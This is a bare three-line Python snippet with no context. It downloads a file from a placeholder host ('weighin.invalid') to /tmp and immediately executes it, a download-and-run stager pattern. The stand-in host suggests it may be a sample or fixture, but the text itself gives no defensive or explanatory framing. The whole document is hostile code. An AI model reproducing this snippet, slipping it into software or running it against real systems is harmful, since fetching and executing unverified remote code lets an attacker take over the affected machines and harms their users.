import urllib.request, subprocess
urllib.request.urlretrieve('http://weighin.invalid/x', '/tmp/x')
subprocess.run(['/tmp/x'])
